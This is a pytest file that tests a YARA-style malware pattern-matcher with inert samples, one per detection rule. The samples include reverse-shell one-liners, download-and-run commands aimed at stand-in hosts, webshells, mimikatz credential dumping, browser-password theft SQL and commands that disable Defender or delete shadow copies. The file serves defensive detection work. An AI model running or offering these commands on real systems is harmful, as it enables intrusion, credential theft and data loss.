"""The built pattern-matcher: each rule of ours on a sample for it and on benign files; and all as yara does it."""

from __future__ import annotations

import base64
import struct
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import benign
import corpus
import golden
import msgspec
import pytest
from executables import CODE, READ, Pe, PeSection, import_table, noise, pie
from harness import REPOSITORY, Guest, Refused

Guests = Callable[[str], Guest]
STDIN_ONLY = {"wasi:cli/stdin@0.2.12", "wasi:io/error@0.2.12", "wasi:io/streams@0.2.12"}
RULES = REPOSITORY / "wasm" / "modules" / "pattern-matcher" / "rules"
MIB = 1 << 20


@pytest.fixture
def module(guest: Guests) -> Guest:
    return guest("pattern-matcher")


def matched(module: Guest, sample: bytes, function: str = "analyze", **args: Any) -> dict[str, Any]:
    """What matches, by rule."""
    data = msgspec.json.decode(module.call(function, sample, **args).data)
    return {found["rule"]: found for found in data["matches"]}


def program(*libraries: tuple[str, list[str]], sections: tuple[bytes, ...] = (), data: bytes = b"") -> bytes:
    """A PE image with those imports, sections and bytes."""
    image = Pe()
    image.sections = [PeSection(b".text", CODE, b"\xc3" * 16), *(PeSection(name, CODE, b"\xc3") for name in sections)]
    image.sections.append(PeSection(b".data", READ, data or b"\0"))
    rva = image.rva(len(image.sections))
    content, size = import_table(rva, wide=False, libraries=dict(libraries))
    image.sections.append(PeSection(b".idata", READ, content))
    image.directories[1] = (rva, size)
    return image.build()


def text(*lines: str) -> bytes:
    return "\n".join(lines).encode()


STUB = b"MZ".ljust(0x4E, b"\0") + b"This program cannot be run in DOS mode."
SAMPLES: dict[str, bytes] = {
    "eicar_test_file": golden.sample("eicar"),
    "packer_upx": program(sections=(b"UPX0", b"UPX1")),
    "packer_by_section_names": program(sections=(b".vmp0",)),
    "injection_into_other_processes": program(
        ("KERNEL32.dll", ["VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"])
    ),
    "process_hollowing": program(
        ("ntdll.dll", ["NtUnmapViewOfSection"]), ("kernel32.dll", ["SetThreadContext", "WriteProcessMemory"])
    ),
    "keyboard_hook": program(("user32.dll", ["SetWindowsHookExA", "GetAsyncKeyState"])),
    "virtual_machine_checks": program(
        data=b"VBoxTray.exe\0vmtoolsd.exe\0SbieDll.dll\0" + "procmon.exe".encode("utf-16le")
    ),
    "api_lookup_by_hash": noise(64) + bytes.fromhex("31d2648b52308b520c8b5214 c1cf0d01c7"),
    "program_behind_another_file": b"%PDF-1.4\n" + noise(256) + STUB,
    "iot_bot": pie() + b"/bin/busybox\0wget http\0tftp -g\0chmod 777\0/proc/net/tcp\0",
    "powershell_encoded_command": b"start powershell.exe -nop -enc " + base64.b64encode(noise(60)),
    "powershell_download_and_run": text("IEX (New-Object Net.WebClient).DownloadString('http://e.example/a')"),
    "powershell_in_memory_loader": text(
        "$b = [Convert]::FromBase64String($t)", "[System.Reflection.Assembly]::Load($b)"
    ),
    "script_host_dropper": text(
        'var h = new ActiveXObject("MSXML2.XMLHTTP");', 'var s = new ActiveXObject("ADODB.Stream");',
        "s.SaveToFile(p, 2);", 'new ActiveXObject("WScript.Shell").Run(p);',
    ),
    "script_packed_by_eval": text("eval(function(p,a,c,k,e,d){return p}('0',1,1,'x'.split('|'),0,{}))"),
    "webshell_php": text("<?php @eval($_POST['c']); ?>"),
    "webshell_jsp": text('<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
    "webshell_aspx": text('<%@ Page Language="Jscript"%><%eval(Request.Item["c"],"unsafe");%>'),
    "reverse_shell_one_liner": text("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
    "windows_tool_loads_from_network": text("certutil -urlcache -f http://e.example/a.txt a.txt"),
    "library_is_loaded_and_started": text(
        "Invoke-WebRequest http://e.example/a.dll -OutFile a.dll", "rundll32 a.dll,Start"
    ),
    "program_is_loaded_and_started": text(
        "powershell -c \"(New-Object Net.WebClient).DownloadFile('http://e.example/a.exe','%TEMP%\\a.exe')\"",
        "start %TEMP%\\a.exe",
    ),
    "network_into_a_shell": text("wget -q -O- http://e.example/a | sh"),
    "decoded_into_a_shell": text("echo ZWNobyBoZWxsbw== | base64 -d | bash"),
    "shell_dropper": text("cd /tmp; wget http://192.0.2.1/bins/a; chmod 777 a; ./a; rm -rf a"),
    "python_reverse_shell": text(
        "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)", 's.connect(("192.0.2.1", 4444))',
        "os.dup2(s.fileno(), 0)", "os.dup2(s.fileno(), 1)", 'subprocess.call(["/bin/sh", "-i"])',
    ),
    "python_runs_fetched_code": text("exec(requests.get('http://e.example/s').text)"),
    "node_reverse_shell": text(
        "const tls = require('tls'), s = require('child_process').spawn('cmd.exe');",
        "const c = tls.connect(443, 'e.example', () => { c.pipe(s.stdin); s.stdout.pipe(c) });",
    ),
    "powershell_fetches_into_expression": text("Invoke-Expression (Invoke-WebRequest 'http://e.example/a.ps1')"),
    "internet_shortcut_to_a_program": text("[InternetShortcut]", "URL=\\\\192.0.2.1\\share\\a.exe"),
    "shadow_copies_deleted": text("vssadmin.exe Delete Shadows /All /Quiet"),
    "base64_of_a_program": base64.b64encode(
        b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8" + bytes(0x3D) + STUB[0x4E:] + noise(99)
    ),
    "macro_that_starts_by_itself_and_runs_programs": text(
        "Sub AutoOpen()", 'CreateObject("WScript.Shell").Run "calc"', "End Sub"
    ),
    "rtf_equation_object": text(r"{\rtf1{\object{\*\objdata 4571756174696F6E2E3300}}}"),
    "rtf_object_updates_itself": text(r"{\rtf1{\object\objupdate{\*\objdata 0105}}}"),
    "pdf_runs_something": text("%PDF-1.4", "<< /S /Launch /Win << /F (cmd.exe) >> >>"),
    "pdf_script_when_opened": text("%PDF-1.4", "/OpenAction << /S /JavaScript /JS (eval(unescape('%41'))) >>"),
    "template_from_the_network": text(
        '<Relationship Type="x/relationships/attachedTemplate" Target="http://e.example/t.dotm" TargetMode="External"/>'
    ),
    "shortcut_runs_a_shell": struct.pack("<II", 0x4C, 0x21401) + "powershell -w hidden".encode("utf-16le"),
    "ransom_note": text("All your files are encrypted!", "Pay in Bitcoin to get the decryption key."),
    "miner_of_coins": text('{"url": "stratum+tcp://pool.example.org:3333", "algo": "rx/0"}', "--donate-level=1"),
    "thief_of_browser_passwords": text("SELECT origin_url, username_value, password_value FROM logins"),
    "dumper_of_credentials": text("privilege::debug", "sekurlsa::logonpasswords"),
    "run_key_is_written": text(r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a /d b"),
    "defender_is_turned_off": text("Set-MpPreference -DisableRealtimeMonitoring $true"),
    "stealer_sends_to_a_chat": text(f"https://discord.com/api/webhooks/123456789012345678/{'a' * 68}"),
}  # fmt: skip
"""A sample for each rule: inert, made here."""


def test_it_describes_itself_and_imports_stdin_alone(module: Guest) -> None:
    description = module.describe()
    assert (description.name, description.slot) == ("pattern-matcher", "patterns")
    assert [function.name for function in description.functions] == [
        "analyze", "scan", "compile", "check", "split", "repeat",
    ]  # fmt: skip
    assert all(function.args["additionalProperties"] is False for function in description.functions)
    assert set(module.component.type.imports(module.engine)) == STDIN_ONLY


def test_each_rule_of_ours_has_a_sample_and_says_what_it_means(module: Guest) -> None:
    sources = [{"text": file.read_text(), "namespace": file.stem} for file in sorted(RULES.glob("*.yar"))]
    listed = msgspec.json.decode(module.call("compile", sources=sources).data)["listed"]
    assert {rule["name"] for rule in listed} == set(SAMPLES)
    for rule in listed:
        metadata = dict(rule["metadata"])
        assert metadata["severity"] in {"info", "low", "medium", "high", "critical"}, rule["name"]
        assert 50 <= metadata["confidence"] <= 100
        assert metadata["description"][0].isupper()
        assert not metadata["description"].endswith(".")


@pytest.mark.parametrize("rule", SAMPLES)
def test_a_rule_of_ours_finds_what_it_is_for(module: Guest, rule: str) -> None:
    output = module.call("analyze", SAMPLES[rule])
    found = {match["rule"] for match in msgspec.json.decode(output.data)["matches"]}
    assert rule in found
    (finding,) = [finding for finding in output.findings if finding.id == f"rule-{rule.replace('_', '-')}"]
    assert finding.title != "A YARA rule matches"
    if rule != "eicar_test_file":
        assert finding.techniques


@pytest.mark.parametrize(
    "lines",
    [
        ('$c.DownloadFile($u, "$env:TEMP\\a.exe")', 'Start-Process "$env:TEMP\\a.exe"'),
        ("Invoke-WebRequest $u -OutFile a.exe", "Start-Process a.exe -WindowStyle Hidden"),
    ],
)
def test_what_powershell_saves_and_starts_is_seen(module: Guest, lines: tuple[str, ...]) -> None:
    findings = module.call("analyze", text(*lines)).findings
    assert "rule-powershell-download-and-run" in {finding.id for finding in findings}


@pytest.mark.parametrize(
    ("lines", "expected"),
    [
        (("cd /tmp", "wget http://192.0.2.1/bins.sh", "chmod 777 bins.sh", "sh bins.sh"), {"shell_dropper"}),
        (("cd /dev/shm || cd /tmp", "tftp -g -r a 192.0.2.1; chmod +x *; ./a x86"), {"shell_dropper"}),
        (("certutil.exe /urlcache /f http://e.example/a b",), {"windows_tool_loads_from_network"}),
        (("curl -s http://e.example/a | sudo -E bash -",), {"network_into_a_shell"}),
        (("exec(urllib.request.urlopen('http://e.example/s').read())",), {"python_runs_fetched_code"}),
        (('powershell -w hidden -c "IEX(iwr http://e.example/a)"',), {"powershell_fetches_into_expression"}),
        (("irm https://e.example/a | iex",), {"powershell_fetches_into_expression"}),
        (
            (
                "var c = new (require('net').Socket)(), s = require('child_process').spawn('/bin/sh', []);",
                "c.connect(4444, 'e.example', () => { c.pipe(s.stdin); s.stdout.pipe(c); s.stderr.pipe(c) });",
            ),
            {"node_reverse_shell"},
        ),
        (
            ("perl -e 'socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,sockaddr_in(1,$a))){exec(\"/bin/sh -i\");}'",),
            {"reverse_shell_one_liner"},
        ),
        (("[InternetShortcut]", "URL=file://45.0.2.1/share/a.exe"), {"internet_shortcut_to_a_program"}),
        (("[InternetShortcut]", "URL=file:///C:/Program%20Files/App/app.exe"), set()),
        (("[InternetShortcut]", "URL=https://e.example/setup.exe"), set()),
        # As honest installers and builds do it.
        (("data = json.loads(urlopen(url).read())", "exec(compile(open(file).read(), file, 'exec'))"), set()),
        (("cd /tmp", "curl -fsSL https://e.example/i.sh -o i.sh", "chmod +x i.sh", "./i.sh", "rm -f /tmp/i.sh"), set()),
        (
            ("wget https://e.example/a.tar.gz -O /tmp/a.tar.gz", "chmod 755 configure", "./configure", "rm -rf b/*"),
            set(),
        ),
    ],
)
def test_commands_that_load_and_run_are_told_from_installers(
    module: Guest, lines: tuple[str, ...], expected: set[str]
) -> None:
    assert set(matched(module, text(*lines))) == expected


def test_no_benign_file_is_called_suspicious(module: Guest) -> None:
    alarms: dict[str, list[str]] = {}
    for file in benign.files():
        for finding in module.call("analyze", file.read_bytes()).findings:
            if finding.severity not in {"info", "low"}:
                alarms.setdefault(str(file), []).append(finding.id)
    assert alarms == {}


FOREIGN = r"""
import "pe"
import "math"
import "hash"
rule words { strings: $a = "import" nocase $b = "GetProcAddress" wide ascii fullword condition: any of them }
rule hex { strings: $a = { 4d 5a [0-80] (50 45 | 00 ??) } condition: $a }
rule expression { strings: $a = /https?:\/\/[a-z0-9.\/-]{4,60}/ $b = /[A-Z]{3}_[a-z]+/ condition: #a > 1 or #b > 2 }
rule xored { strings: $a = "This program" xor(1-255) condition: $a }
rule encoded { strings: $a = "This program cannot" base64 base64wide condition: $a }
rule sections { condition: pe.is_pe and for any s in pe.sections : (s.raw_data_size > 0 and s.name == ".text") }
rule imports { condition: pe.imports("kernel32.dll", "ExitProcess") or pe.number_of_imports > 3 }
rule imphash { condition: pe.is_pe and pe.imphash() != "" }
rule entropy { condition: math.entropy(0, filesize) > 6.0 }
rule digest { condition: hash.sha256(0, filesize) matches /^[0-7]/ }
rule numbers { condition: uint16(0) == 0x5a4d and uint32be(uint32(0x3c)) == 0x50450000 }
rule counted { strings: $a = "\x00\x00\x00\x00" condition: #a > 10 and @a[2] > 4 and !a[1] == 4 }
global rule small { condition: filesize < 8MB }
private rule hidden { condition: filesize > 1 }
rule depends { condition: hidden and not xored }
"""


Matches = dict[str, dict[str, list[tuple[int, int]]]]
"""By rule and string: offset and length of each place."""
Engine = Callable[[dict[str, str]], Callable[[bytes], Matches]]
"""Rules by namespace, and what of them matches a sample."""


def by_yara(sources: dict[str, str]) -> Callable[[bytes], Matches]:
    rules = pytest.importorskip("yara").compile(sources=sources)

    def match(sample: bytes) -> Matches:
        return {
            found.rule: {
                string.identifier: [(it.offset, it.matched_length) for it in string.instances]
                for string in found.strings
            }
            for found in rules.match(data=sample)
        }

    return match


def by_yara_x(sources: dict[str, str]) -> Callable[[bytes], Matches]:
    compiler = pytest.importorskip("yara_x").Compiler()
    for namespace, source in sources.items():
        compiler.new_namespace(namespace)
        compiler.add_source(source)
    rules = compiler.build()

    def match(sample: bytes) -> Matches:
        return {
            found.identifier: {
                pattern.identifier: [(it.offset, it.length) for it in pattern.matches]
                for pattern in found.patterns
                if len(pattern.matches)
            }
            for found in rules.scan(sample).matching_rules
        }

    return match


# Of a program without imports, YARA-X's imphash is that of nothing, and YARA's is none.
@pytest.mark.parametrize(("engine", "differs"), [(by_yara, set()), (by_yara_x, {"imphash"})])
def test_it_matches_what_others_match(module: Guest, engine: Engine, differs: set[str]) -> None:
    theirs = engine({"default": FOREIGN})
    folder = Path(golden.__file__).resolve().parents[2] / "wasm" / "modules" / "file-processor" / "tests" / "golden"
    samples = [golden.sample(file.name.removesuffix(".b64")) for file in sorted(folder.glob("*.b64"))]
    samples += [*SAMPLES.values(), Path(sys.executable).resolve().read_bytes()[: 2 * MIB]]
    compared = 0
    for sample in samples:
        ours = matched(module, sample, "scan", sources=[{"text": FOREIGN}])
        expected = theirs(sample)
        assert set(ours) - differs == set(expected) - differs
        for name, strings in expected.items():
            for identifier, places in strings.items():
                (mine,) = [it for it in ours[name]["strings"] if it["id"] == identifier]
                got = [(place["offset"], place["length"]) for place in mine["places"]]
                assert got == places[: len(got)], (name, identifier)
                assert mine["count"] == min(len(places), 1_000)
                compared += len(got)
    assert compared > 500


SIGNATURES = r"""
import "pe"
rule signed { condition: pe.number_of_signatures > 0 }
rule trusted { condition: pe.is_signed }
rule issued { condition: for any s in pe.signatures : (s.issuer contains "/CN=" and s.subject contains "/O=") }
rule printed { condition: for any s in pe.signatures : (s.thumbprint matches /^[0-9a-f]{40}$/) }
rule numbered { condition: for all s in pe.signatures : (s.serial matches /^([0-9a-f]{2}:)+[0-9a-f]{2}$/) }
rule recent { condition: for any s in pe.signatures : (s.not_after > 1700000000) }
rule digested { condition: for all s in pe.signatures : (s.digest == s.file_digest and s.digest_alg == "sha256") }
"""


def test_signatures_of_programs_are_those_that_yara_reads(module: Guest) -> None:
    """Of real programs: of those that the golden cases make the engine reads none, natively neither."""
    theirs = by_yara({"default": SIGNATURES})
    signed = 0
    for digest in sorted(corpus.fetch()):
        sample = (corpus.folder() / digest).read_bytes()
        if sample.startswith(b"MZ"):
            expected = set(theirs(sample))
            assert set(matched(module, sample, "scan", sources=[{"text": SIGNATURES}])) == expected, digest
            signed += "signed" in expected
    assert signed >= 8


@pytest.mark.parametrize("engine", [by_yara, by_yara_x])
def test_our_rules_are_those_of_others_too(module: Guest, engine: Engine) -> None:
    """Whoever takes them elsewhere gets the same matches."""
    theirs = engine({file.stem: file.read_text() for file in RULES.glob("*.yar")})
    for sample in SAMPLES.values():
        assert set(matched(module, sample)) == set(theirs(sample))


def test_a_set_is_compiled_once_and_handed_in(module: Guest) -> None:
    call = msgspec.json.encode({"function": "compile", "args": {"sources": [{"text": "rule r { condition: true }"}]}})
    answer = msgspec.json.decode(module.analyze_raw(call.decode()))
    assert answer["data"]["size"] == len(base64.b64decode(answer["state"])) - 25 - 32
    scan = {"function": "analyze", "args": {}, "sample": {"size": 1}, "state": answer["state"]}
    facts = msgspec.json.decode(module.analyze_raw(msgspec.json.encode(scan).decode(), b"x"))["data"]
    assert [found["rule"] for found in facts["matches"]] == ["r"]
    assert (facts["set"], facts["sha256"]) == ("given", answer["data"]["sha256"])


def test_what_is_wrong_with_rules_is_told_with_its_place(module: Guest) -> None:
    sources = [{"text": "rule a {\n  condition: oops\n}", "name": "mine.yar"}]
    with pytest.raises(Refused) as refused:
        module.call("compile", sources=sources)
    assert refused.value.args[0].message.startswith("Rules: mine.yar, line 2, column 14: ")
    (problem,) = msgspec.json.decode(module.call("check", sources=sources).data)["problems"]
    assert (problem["line"], problem["column"], problem["level"]) == (2, 14, "error")
